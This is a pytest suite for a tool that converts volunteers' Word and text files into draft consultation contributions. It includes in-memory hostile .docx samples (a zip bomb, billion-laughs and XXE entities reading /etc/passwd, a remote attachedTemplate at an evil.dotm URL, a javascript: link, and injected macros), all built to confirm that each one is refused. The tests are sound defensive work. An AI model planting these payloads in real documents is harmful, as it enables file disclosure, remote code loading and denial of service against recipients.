"""`coproduce intake`: real Word files in, draft contributions out; every bad file refused by name.

The .docx fixtures in tests/fixtures/intake/ were made by LibreOffice, not by
python-docx (see the README there). Hostile files are built here, in memory.
"""

from __future__ import annotations

import hashlib
import io
import socket
import zipfile
from pathlib import Path

import docx
import pytest
from PIL import Image

from pipeline.commands.intake import intake_time
from pipeline.errors import Problems
from pipeline.load.workbench import ResponseFolder, Workbench, load_contributors, load_response
from pipeline.parse.markdown import parse
from pipeline.workflow.intake import docx_package, header, match
from pipeline.workflow.intake.docx_reader import read_docx
from pipeline.workflow.intake.refusal import Refused
from pipeline.workflow.intake.run import Intake
from tests.conftest import assert_user_error, run
from tests.factory import Bench

FIXTURES = Path(__file__).parent / "fixtures" / "intake"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


# ------------------------------------------------------------------ helpers


def fingerprint(folder: Path) -> dict[str, str]:
    """Every file under `folder` and a hash of its bytes: equal before and after means untouched."""
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def intake(bench: Bench, shared: Path, *extra: str) -> tuple[int, str]:
    result = run(["intake", str(shared), *extra], cwd=bench.root)
    assert "Traceback" not in result.output
    assert result.exit_code in (0, 1, 2), (result.output, result.exception)
    return result.exit_code, result.output


def new_contributions(bench: Bench) -> dict[str, str]:
    return {p.name: p.read_text(encoding="utf-8") for p in sorted(bench.response.glob("*-intake.md"))}


def python_docx_bytes(*paragraphs: str) -> bytes:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rezip(data: bytes, changes: dict[str, bytes | str | None]) -> bytes:
    """`data` (a .docx) with parts replaced, added, or (None) removed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename not in changes:
                dst.writestr(item, src.read(item))
        for name, content in changes.items():
            if content is not None:
                dst.writestr(name, content)
    return out.getvalue()


def with_body(body_xml: str, rels: str = "", extra: dict[str, bytes | str | None] | None = None) -> bytes:
    """A Word file whose body is `body_xml`, written as Word writes it (hand-made OOXML)."""
    base = python_docx_bytes("x")
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        doc_rels = z.read("word/_rels/document.xml.rels").decode()
    document = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {W} {R}><w:body>{body_xml}</w:body></w:document>'
    doc_rels = doc_rels.replace("</Relationships>", rels + "</Relationships>")
    return rezip(base, {"word/document.xml": document, "word/_rels/document.xml.rels": doc_rels, **(extra or {})})


def p(text: str, *, run_props: str = "") -> str:
    return f'<w:p><w:r><w:rPr>{run_props}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


HEADER = p("Question: 1") + p("Written by: ada")


# ------------------------------------------------------ real Word files (LibreOffice)


def test_libreoffice_answer_becomes_markdown_with_everything_kept(bench: Bench, shared: Path) -> None:
    (shared / "cygnet-q2.docx").write_bytes((FIXTURES / "lo-answer.docx").read_bytes())
    code, output = intake(bench, shared)
    assert code == 0, output
    [(name, text)] = new_contributions(bench).items()
    assert name == "32-q2-cy-intake.md"  # after 30- and 31-q2; "Written by: Cygnet" is cy's pseudonym
    front, body = text.split("---\n")[1:3]
    assert "answers: q2\nby: [cy]\nstatus: draft\n" in front
    assert body == (
        "# Referral should be simple\n\n"
        "People **must** be able to refer *themselves*, at any hour, day or night. "
        "See [the referral guide](https://example.org/referral) and ***read it all***.\n\n"
        "## What helps\n\n"
        "- A phone line that answers\n- A peer worker to talk to\n   - even at night\n\n"
        "How it should work:\n\n"
        "1. Ring the house.\n1. Talk to a peer worker.\n\n"
        "| Place | Beds |\n|---|---|\n| Eastmoor | 6 |\n\n"
        "Costs are 5 \\* 3 and a\\_b \\[not a link\\].\n"
    )
    assert "sometimes" not in body and "Is this the right word" not in body  # deleted text, comment
    assert "1 comment and 2 tracked changes" in output
    assert "as if every change were accepted" in output
    assert "32-q2-cy-intake.md" in output
    check = run(["check", "--draft", str(bench.response)])
    assert check.exit_code == 0, check.output


def test_libreoffice_html_conversion_section_lists_links_and_table(bench: Bench, shared: Path) -> None:
    (shared / "about.docx").write_bytes((FIXTURES / "lo-section.docx").read_bytes())
    code, output = intake(bench, shared)
    assert code == 0, output
    text = new_contributions(bench)["15-about-ada-intake.md"]
    assert "section: about\nby: [ada]\n" in text
    assert "Response:" not in text and "Written by" not in text and "Fenwick" not in text
    assert (
        "1. We meet monthly.\n1. We write responses together.\n\n- Find us at [our website](https://example.org/network)"
        in text
    )
    assert "[hello@example.org](mailto:hello@example.org)" in text
    assert "- Not a local file\n" in text and "secret.docx" not in text  # a file: link is dropped ...
    assert "secret.docx was left out" in output  # ... and said so
    assert "| 2024 | 40 \\| more |" in text
    tokens = [t.type for t in parse(text.split("---\n", 2)[2])]
    assert tokens.count("table_open") == 1 and tokens.count("ordered_list_open") == 1
    assert tokens.count("bullet_list_open") == 1 and "heading_open" in tokens
    assert run(["check", "--draft", str(bench.response)]).exit_code == 0


def test_originals_are_copied_byte_for_byte_and_the_shared_folder_is_untouched(bench: Bench, shared: Path) -> None:
    (shared / "ada").mkdir()
    (shared / "ada" / "answer.docx").write_bytes((FIXTURES / "lo-answer.docx").read_bytes())
    (shared / "about.docx").write_bytes((FIXTURES / "lo-section.docx").read_bytes())
    (shared / "broken.docx").write_bytes(b"PK\x03\x04 not really")
    (shared / "notes.txt").write_text("Question: 3\nWritten by: hal\n\nMore beds.\n", encoding="utf-8")
    before = fingerprint(shared)
    code, output = intake(bench, shared)
    assert code == 1, output  # broken.docx
    assert fingerprint(shared) == before
    copies = bench.response / "intake"
    for source in ("about.docx", "notes.txt"):
        assert (copies / source).read_bytes() == (shared / source).read_bytes()
    # the subfolder's file: the folder says ada, the header says Cygnet: that is a conflict, reported
    assert "ada/answer.docx" in output and "in the folder ada/ but says Written by: Cygnet" in output
    record = (copies / "record.yaml").read_text(encoding="utf-8")
    assert hashlib.sha256((shared / "notes.txt").read_bytes()).hexdigest() in record
    assert "became: 35-q3-hal-intake.md" in record and "taken_in: '20" in record


def test_a_second_run_takes_in_nothing(bench: Bench, shared: Path) -> None:
    (shared / "a.docx").write_bytes((FIXTURES / "lo-answer.docx").read_bytes())
    assert intake(bench, shared)[0] == 0
    after_first = fingerprint(bench.root)
    code, output = intake(bench, shared)
    assert code == 0
    assert "Already taken in (1)" in output and "as 32-q2-cy-intake.md" in output
    assert fingerprint(bench.root) == after_first
    # the same bytes under a new name are still the same file
    (shared / "copy of a.docx").write_bytes((shared / "a.docx").read_bytes())
    assert "Already taken in (2)" in intake(bench, shared)[1]
    assert fingerprint(bench.root) == after_first


# ------------------------------------------------------------------ header


@pytest.mark.parametrize(
    "text",
    [
        "Question: 3\nWritten by: Jordan\n\nBody",
        "\n**Question:** 3\n\n*Written by:* Jordan\n\nBody",
        "question : 3\nWRITTEN BY: Jordan\nBody",
        "# Question: 3\n- Name: Jordan\n\nBody",
        "Question： 3\nAuthor: Jordan\\\n\nBody",
    ],
)
def test_header_variants(text: str) -> None:
    h = header.split_header(text)
    assert h.values["question"].text == "3"
    assert h.values["by"].text == "Jordan"
    assert h.body == "Body"


def test_header_stops_at_the_first_line_that_is_not_one_and_keeps_lines() -> None:
    h = header.split_header("Section: about\n\nResponse: crisis-house\nWe are a network.\nQuestion: 2")
    assert {k: (v.text, v.line) for k, v in h.values.items()} == {
        "section": ("about", 1),
        "response": ("crisis-house", 3),
    }
    assert h.body == "We are a network.\nQuestion: 2"


def test_header_placeholder_twice_and_template_marker() -> None:
    h = header.split_header("Question: 1\nWritten by: (your name, or the name you use with us)\nQuestion: 2\nText")
    assert h.values["by"].text == "" and h.twice == [("question", 3)]
    text = "Question: 2\nWritten by: Wren\n\n## How to fill this in\n\n- Change the 1 after Question:\n\n**Write your answer below this line**\n\nMy answer"
    h = header.split_header(text)
    assert h.values["question"].text == "2" and h.values["by"].text == "Wren" and h.body == "My answer"


# ------------------------------------------------------------------ matching


@pytest.fixture
def loaded(bench: Bench) -> tuple[Workbench, ResponseFolder]:
    wb = Workbench(bench.root)
    problems = Problems()
    load_contributors(wb, problems)
    response = load_response(wb, bench.response, problems)
    assert response is not None
    return wb, response


def test_people_are_matched_only_when_exactly_one_fits(bench: Bench, loaded: tuple[Workbench, ResponseFolder]) -> None:
    wb, _ = loaded
    people = {pid: c.data for pid, c in wb.contributors.items()}
    assert match.person("Cygnet", people) == "cy"  # pseudonym
    assert match.person("  ivy  ", people) == "ivy"  # id
    assert match.person("faye", people) == "fay"  # first name
    assert match.person("Hal Brennan", people) == "hal"  # full name
    assert match.people("Ada and Bo", people) == ["ada", "bo"]
    people["bob"] = people["bo"].model_copy(update={"name": "Bo Marsh"})
    with pytest.raises(Refused, match="could be any of bo, bob"):
        match.person("Bo", people)
    with pytest.raises(Refused, match="nobody called 'Jordan'"):
        match.person("Jordan", people)


def test_questions_and_sections(loaded: tuple[Workbench, ResponseFolder]) -> None:
    _, response = loaded
    assert match.question("2", response).answers == "q2"
    assert match.question("Q3", response).answers == "q3"
    assert match.question("question 1.", response).answers == "q1"
    with pytest.raises(Refused, match="no question 4 in crisis-house: it has 3"):
        match.question("4", response)
    with pytest.raises(Refused, match="'beds' is not a question"):
        match.question("beds", response)
    assert match.section("About", response).section == "about"
    own = match.section("in our own words", response)
    assert (own.section, own.title) == ("local-voices", "In our own words")
    with pytest.raises(Refused, match="not a section"):
        match.section("costs", response)


def test_own_section_keeps_its_title_and_passes_check(bench: Bench, shared: Path) -> None:
    (shared / "v.md").write_text("Section: local-voices\nWritten by: dee\n\nMore views.\n", encoding="utf-8")
    assert intake(bench, shared)[0] == 0
    text = new_contributions(bench)["41-local-voices-dee-intake.md"]
    assert "section: local-voices\ntitle: In our own words\nby: [dee]\n" in text
    assert run(["check", "--draft", str(bench.response)]).exit_code == 0


# -------------------------------------------------------- what is reported, not guessed


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Question: 1\nWritten by: Bo\n\nText", None),
        ("Question: 1\nWritten by: Jordan\n\nText", "nobody called 'Jordan'"),
        ("Question: 7\nWritten by: ada\n\nText", "there is no question 7 in crisis-house: it has 3"),
        ("Question: 1\nSection: about\nWritten by: ada\n\nText", "both Question: and Section:"),
        ("Question: 1\nWritten by: ada\n", "no text under its header"),
        ("Question: 1\nWritten by: ada\nResponse: elsewhere\n\nText", "there is no response 'elsewhere'"),
    ],
)
def test_unmatched_files_are_reported_and_not_taken_in(
    bench: Bench, shared: Path, text: str, expected: str | None
) -> None:
    (shared / "answer.txt").write_text(text, encoding="utf-8")
    bench.write("contributors/bob.yaml", "name: Bo Marsh\n")
    before = fingerprint(bench.root)
    code, output = intake(bench, shared)
    if expected is None:  # two people are called Bo
        expected = "'Bo' could be any of bo, bob; write the contributor id instead, like  Written by: bo"
    assert code == 1 and expected in output, output
    assert "answer.txt" in output
    assert fingerprint(bench.root) == before


def test_subfolder_names_the_writer(bench: Bench, shared: Path) -> None:
    (shared / "eli").mkdir()
    (shared / "eli" / "q1.txt").write_text("Question: 1\n\nA quiet room.\n", encoding="utf-8")
    (shared / "nobody").mkdir()
    (shared / "nobody" / "q1.txt").write_text("Question: 1\n\nSomething.\n", encoding="utf-8")
    code, output = intake(bench, shared)
    assert code == 0  # a folder that names nobody credits nobody: the file waits unsorted, not refused
    assert "eli/q1.txt → responses/crisis-house/21-q1-eli-intake.md" in output
    assert "nobody/q1.txt → responses/crisis-house/unsorted/q1-intake.md" in output
    assert "the folder nobody/ is not a contributor" in output


def test_numbers_sort_after_existing_files_and_never_overwrite(bench: Bench, shared: Path) -> None:
    for name, words in (("a.txt", "one"), ("b.txt", "two")):
        (shared / name).write_text(f"Question: 2\nWritten by: ada\n\n{words}\n", encoding="utf-8")
    (shared / "c.txt").write_text("Question: 3\nWritten by: ada\n\nthree\n", encoding="utf-8")
    assert intake(bench, shared)[0] == 0
    names = list(new_contributions(bench))
    assert names == ["32-q2-ada-intake.md", "33-q2-ada-intake.md", "35-q3-ada-intake.md"]
    assert "one" in new_contributions(bench)["32-q2-ada-intake.md"]


def test_which_response(bench: Bench, shared: Path) -> None:
    bench.write(
        "responses/other/response.yaml",
        "title: T\norganisation: O\nconsultation: {title: C, by: B}\nquestions:\n  - id: q1\n    text: Why\n",
    )
    (shared / "a.txt").write_text("Question: 1\nWritten by: ada\n\nWords.\n", encoding="utf-8")
    result = run(["intake", str(shared)], cwd=bench.root)
    output = assert_user_error(result, 2)
    assert "a.txt does not say which response it is for" in output and "--into" in output
    assert not (bench.response / "intake").exists()
    assert "→ responses/other/40-q1-ada-intake.md" in intake(bench, shared, "--into", "other")[1]
    (shared / "b.txt").write_text("Response: crisis-house\nQuestion: 1\nWritten by: ada\n\nMore.\n", encoding="utf-8")
    code, output = intake(bench, shared)
    assert code == 0 and "b.txt → responses/crisis-house/21-q1-ada-intake.md" in output
    assert "a.txt: on " in output  # known to the other response's record
    code, output = intake(bench, shared, "--into", "responses/other")
    assert code == 1 and "it says Response: crisis-house, but you asked for --into other" in output


# -------------------------------------------------------------- text files


def test_plain_text_is_plain_and_markdown_is_markdown(bench: Bench, shared: Path) -> None:
    (shared / "plain.txt").write_bytes(
        "\ufeffQuestion: 1\r\nWritten by: ada\r\n\r\n# not a heading\r\n1984. A year\r\n*stars* & <b>tags</b>\r\n\r\n- one\r\n- two\r\n".encode()
    )
    (shared / "rich.md").write_text(
        "Question: 3\nWritten by: bo\n\n## A heading\n\nSome *emphasis*.\n", encoding="utf-8"
    )
    assert intake(bench, shared)[0] == 0
    texts = new_contributions(bench)
    plain = texts["21-q1-ada-intake.md"].split("---\n", 2)[2]
    tokens = [t.type for t in parse(plain)]
    assert "heading_open" not in tokens and "em_open" not in tokens and tokens.count("list_item_open") == 2
    assert "\\# not a heading" in plain and "1984\\. A year" in plain
    assert texts["35-q3-bo-intake.md"].endswith("## A heading\n\nSome *emphasis*.\n")
    assert run(["check", "--draft", str(bench.response)]).exit_code == 0


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("Question: 1\nWritten by: ada\n\nCafé".encode("latin-1"), "latin.txt:4: it is not saved as UTF-8 text"),
        ("Question: 1\n".encode("utf-16"), "latin.txt:1: it is not saved as UTF-8 text (it looks like UTF-16)"),
    ],
)
def test_text_that_is_not_utf8_is_refused_by_name(bench: Bench, shared: Path, data: bytes, expected: str) -> None:
    (shared / "latin.txt").write_bytes(data)
    code, output = intake(bench, shared)
    assert code == 1 and expected in output and "save it as UTF-8" in output


def test_other_kinds_of_file_are_named_and_lock_files_ignored(bench: Bench, shared: Path) -> None:
    (shared / "scan.pdf").write_bytes(b"%PDF-1.4")
    (shared / "~$answer.docx").write_bytes(b"lock")
    (shared / ".DS_Store").write_bytes(b"junk")
    code, output = intake(bench, shared)
    assert code == 1
    assert "scan.pdf: it is a PDF" in output
    assert "~$answer" not in output and "DS_Store" not in output


# ---------------------------------------------------------- hostile Word files


def refused(bench: Bench, shared: Path, name: str, data: bytes, expected: str) -> str:
    """Drop `data` in as `name` beside a good file: the good one goes in, this one is refused."""
    (shared / "good.txt").write_text("Question: 1\nWritten by: ada\n\nFine.\n", encoding="utf-8")
    (shared / name).write_bytes(data)
    before = fingerprint(shared)
    result = run(["intake", str(shared)], cwd=bench.root)
    output = assert_user_error(result, 1)
    assert f"{name}: {expected}" in output, output
    assert "good.txt → " in output
    assert fingerprint(shared) == before
    assert not (bench.response / "intake" / name).exists()
    assert len(new_contributions(bench)) == 1
    return output


def test_not_a_zip(bench: Bench, shared: Path) -> None:
    refused(bench, shared, "answer.docx", b"Dear all, here is my answer", "this is not a Word document (.docx)")


def test_old_word_or_password_protected(bench: Bench, shared: Path) -> None:
    refused(bench, shared, "old.docx", docx_package.OLE_MAGIC + b"\0" * 600, "this is an old-style Word file (.doc)")


def test_zip_bomb_is_refused_from_its_directory(bench: Bench, shared: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z, z.open("word/document.xml", "w", force_zip64=True) as f:
        zeros = b"\0" * (1024 * 1024)
        for _ in range(200):  # 200 MB, streamed: nothing this size is ever held or written
            f.write(zeros)
    bomb = out.getvalue()
    assert len(bomb) < 1024 * 1024
    output = refused(bench, shared, "bomb.docx", bomb, "it would unpack to 200 MB")
    assert "zip bomb" in output


def test_small_zip_bomb_is_refused_by_its_ratio(bench: Bench, shared: Path) -> None:
    bomb = rezip(python_docx_bytes("x"), {"word/media/image1.png": b"\0" * (10 * 1024 * 1024)})
    refused(bench, shared, "bomb.docx", bomb, "it would unpack to")


def test_huge_picture_is_refused(bench: Bench, shared: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(docx_package, "MAX_MEDIA", 40_000)  # a real 20 MB picture would make a 20 MB test
    picture = bytes(range(256)) * 200
    data = rezip(python_docx_bytes("Question: 1", "Written by: ada", "x"), {"word/media/image1.png": picture})
    refused(bench, shared, "big.docx", data, "a picture or file inside it (word/media/image1.png) is 0 MB")


@pytest.mark.parametrize("how", ["docm", "vbaProject", "content type"])
def test_macros_are_refused(bench: Bench, shared: Path, how: str) -> None:
    base = python_docx_bytes("Question: 1", "Written by: ada", "x")
    if how == "docm":
        refused(bench, shared, "answer.docm", base, "it is a macro-enabled Word document")
    elif how == "vbaProject":
        refused(bench, shared, "vba.docx", rezip(base, {"word/vbaProject.bin": b"\xd0\xcf"}), "it contains macros")
    else:
        with zipfile.ZipFile(io.BytesIO(base)) as z:
            types = z.read("[Content_Types].xml").decode()
        types = types.replace("document.main+xml", "document.macroEnabled.main+xml")
        refused(bench, shared, "typed.docx", rezip(base, {"[Content_Types].xml": types}), "it is a macro-enabled")


def test_billion_laughs_is_refused(bench: Bench, shared: Path) -> None:
    entities = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    document = (
        f'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY lol0 "lol">{entities}]>'
        f"<w:document {W}><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    )
    data = rezip(python_docx_bytes("x"), {"word/document.xml": document})
    refused(bench, shared, "laughs.docx", data, "its part word/document.xml declares a DTD")


def test_external_entity_is_refused(bench: Bench, shared: Path) -> None:
    document = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document {W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
    output = refused(
        bench, shared, "xxe.docx", rezip(python_docx_bytes("x"), {"word/document.xml": document}), "its part"
    )
    assert "root:" not in output


def _with_template(target: str) -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    base = python_docx_bytes("Question: 1", "Written by: ada", "Some words.")
    return rezip(base, {"word/_rels/settings.xml.rels": rels})


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("intake tried to reach the network")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


@pytest.mark.usefixtures("no_network")
def test_remote_template_is_refused_and_not_fetched(bench: Bench, shared: Path) -> None:
    output = refused(
        bench,
        shared,
        "remote.docx",
        _with_template("http://198.51.100.7/evil.dotm"),
        "it asks Word to load http://198.51.100.7/evil.dotm (attachedTemplate)",
    )
    assert "was not visited" in output


@pytest.mark.usefixtures("no_network")
def test_local_template_is_reported_and_the_text_taken_in(bench: Bench, shared: Path) -> None:
    (shared / "local.docx").write_bytes(_with_template("file:///C:/Users/ada/Templates/Normal.dotm"))
    code, output = intake(bench, shared)
    assert code == 0, output
    assert "refers to Normal.dotm (attachedTemplate) outside the file" in output
    assert "Users/ada" not in output  # a local path holds the Windows user name
    assert new_contributions(bench)["21-q1-ada-intake.md"].endswith("Some words.\n")


# --------------------------------------------------- hand-written OOXML details


def test_moves_deleted_rows_pictures_and_links(bench: Bench, shared: Path) -> None:
    png = io.BytesIO()
    Image.new("RGB", (2, 2)).save(png, "PNG")
    body = (
        HEADER
        + "<w:p><w:moveFrom w:id='1' w:author='H' w:date='2026-01-01T00:00:00Z'><w:r><w:t>Moved away.</w:t></w:r></w:moveFrom>"
        "<w:r><w:t xml:space='preserve'>Kept </w:t></w:r>"
        "<w:moveTo w:id='2' w:author='H' w:date='2026-01-01T00:00:00Z'><w:r><w:t>moved here</w:t></w:r></w:moveTo>"
        "<w:hyperlink r:id='rIdJs'><w:r><w:t xml:space='preserve'> and a script</w:t></w:r></w:hyperlink>"
        "<w:r><w:drawing/></w:r></w:p>"
        "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>A</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>B</w:t></w:r></w:p></w:tc></w:tr>"
        "<w:tr><w:trPr><w:del w:id='3' w:author='H' w:date='2026-01-01T00:00:00Z'/></w:trPr>"
        "<w:tc><w:p><w:r><w:t>gone</w:t></w:r></w:p></w:tc></w:tr>"
        "<w:tr><w:tc><w:tcPr><w:gridSpan w:val='2'/></w:tcPr><w:p><w:r><w:t>wide</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    )
    rels = '<Relationship Id="rIdJs" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>'
    (shared / "w.docx").write_bytes(with_body(body, rels, {"word/media/image1.png": png.getvalue()}))
    code, output = intake(bench, shared)
    assert code == 0, output
    text = new_contributions(bench)["21-q1-ada-intake.md"].split("---\n", 2)[2]
    assert text == "Kept moved here and a script\n\n| A | B |\n|---|---|\n| wide |  |\n"
    assert "3 tracked changes" in output and "accepted" in output
    assert "it has 1 shape or chart: these are not taken in; add them by hand as a picture with alt text" in output
    assert "a link to javascript:alert(1) was left out" in output


def test_reader_direct_on_bullets_numbers_and_styles() -> None:
    document = docx.Document()
    document.add_heading("Title words", level=1)
    document.add_paragraph("first", style="List Bullet")
    document.add_paragraph("second", style="List Number")
    para = document.add_paragraph("plain ")
    para.add_run("strong").bold = True
    document.add_paragraph("A quote", style="Quote")
    out = io.BytesIO()
    document.save(out)
    text = read_docx(out.getvalue()).text
    assert text == "# Title words\n\n- first\n\n1. second\n\nplain **strong**\n\n> A quote"


def test_damaged_part_is_refused() -> None:
    with pytest.raises(Refused, match="word/document.xml is damaged"):
        read_docx(rezip(python_docx_bytes("x"), {"word/document.xml": "<w:document"}))
    with pytest.raises(Refused, match="could not be read as a Word document"):
        read_docx(rezip(python_docx_bytes("x"), {"word/document.xml": None}))


# -------------------------------------------------------------- the template


def test_template_is_written_once_and_reads_back(bench: Bench, shared: Path, tmp_path: Path) -> None:
    result = run(["intake", "--template"], cwd=tmp_path)
    assert result.exit_code == 0, result.output
    path = tmp_path / "coproduce-template.docx"
    document = docx.Document(str(path))
    assert document.core_properties.author == "coproduce"
    with zipfile.ZipFile(path) as z:
        assert all(b"python-docx" not in z.read(n) for n in z.namelist() if n.startswith("docProps/"))
    words = "\n".join(p.text for p in document.paragraphs)
    assert words.startswith("Question: 1\nWritten by: (your name, or the name you use with us)")
    assert "choose how you are credited" in words and "Write your answer below this line" in words
    before = path.read_bytes()
    assert "already exists" in assert_user_error(run(["intake", "--template"], cwd=tmp_path), 2)
    assert path.read_bytes() == before
    assert "does not end in .docx" in assert_user_error(run(["intake", "--template", "t.doc"], cwd=tmp_path), 2)
    # a volunteer fills it in, in Word
    document.paragraphs[0].text = "Question: 2"
    document.paragraphs[1].text = "Written by: Wren"
    document.add_paragraph("Nobody answered the phone.")
    document.save(str(shared / "filled.docx"))
    code, output = intake(bench, shared)
    assert code == 0, output
    assert new_contributions(bench)["32-q2-ivy-intake.md"].split("---\n", 2)[2] == "Nobody answered the phone.\n"


def test_template_to_a_named_path(tmp_path: Path) -> None:
    assert run(["intake", "--template", str(tmp_path / "form.docx")]).exit_code == 0
    assert (tmp_path / "form.docx").is_file()


# ---------------------------------------------------------------- usage


def test_usage_errors(bench: Bench, tmp_path: Path) -> None:
    assert "give the shared folder" in assert_user_error(run(["intake"], cwd=bench.root), 2)
    assert "is not a folder" in assert_user_error(run(["intake", str(tmp_path / "none")], cwd=bench.root), 2)
    assert "no response 'nope'" in assert_user_error(
        run(["intake", str(tmp_path), "--into", "nope"], cwd=bench.root), 2
    )
    overlap = assert_user_error(run(["intake", str(bench.response)], cwd=bench.root), 2)
    assert "overlap" in overlap


def test_empty_folder(bench: Bench, shared: Path) -> None:
    code, output = intake(bench, shared)
    assert code == 0 and "nothing to take in" in output


def test_damaged_record_stops_before_anything_is_taken_in(bench: Bench, shared: Path) -> None:
    bench.write("responses/crisis-house/intake/record.yaml", "taken_in: [{source: a}]\n")
    (shared / "a.txt").write_text("Question: 1\nWritten by: ada\n\nx\n", encoding="utf-8")
    output = assert_user_error(run(["intake", str(shared)], cwd=bench.root), 1)
    assert "responses/crisis-house/intake/record.yaml: the intake record cannot be read" in output
    assert not new_contributions(bench)


def test_intake_api_needs_no_command_line(bench: Bench, shared: Path) -> None:
    (shared / "a.txt").write_text("Question: 1\nWritten by: ada\n\nx\n", encoding="utf-8")
    [outcome] = Intake(Workbench(bench.root), bench.response, intake_time()).run(shared)
    assert outcome.status == "taken in" and outcome.became.endswith("21-q1-ada-intake.md")


def test_fixtures_are_small() -> None:
    sizes = {path: path.stat().st_size for path in FIXTURES.iterdir()}
    for path, size in sizes.items():  # LibreOffice's flat .fodt carries all its styles: the largest
        assert size < 150_000, path
    assert sum(sizes.values()) < 2_000_000


def test_links_and_nested_folders_are_not_followed(bench: Bench, shared: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("Question: 1\nWritten by: ada\n\nPrivate.\n", encoding="utf-8")
    (shared / "link.txt").symlink_to(secret)
    (shared / "ada" / "q1" / "old").mkdir(parents=True)  # shared/<person>/<question>/ is looked in, no deeper
    code, output = intake(bench, shared)
    assert code == 1
    assert "link.txt: it is a link to somewhere else, so it was not followed" in output
    assert "ada/q1/old: it is a folder three folders deep" in output
    assert not new_contributions(bench)


def test_a_dropped_links_local_path_does_not_name_its_user() -> None:
    """A link to a file on the volunteer's computer holds their user name: the report gives its last part only."""
    from pipeline.workflow.intake.reading import Changed, notes_on

    notes = notes_on(Changed(dropped_links=["file:///C:/Users/Rosalind.Quayle/Documents/notes.docx"]), "")
    assert notes == ["a link to notes.docx was left out (only web and e-mail links are kept); its words are kept"]
    windows = notes_on(Changed(dropped_links=["C:\\Users\\Rosalind.Quayle\\Desktop\\plan.pdf"]), "")
    assert "Rosalind" not in " ".join(windows) and "plan.pdf" in windows[0]
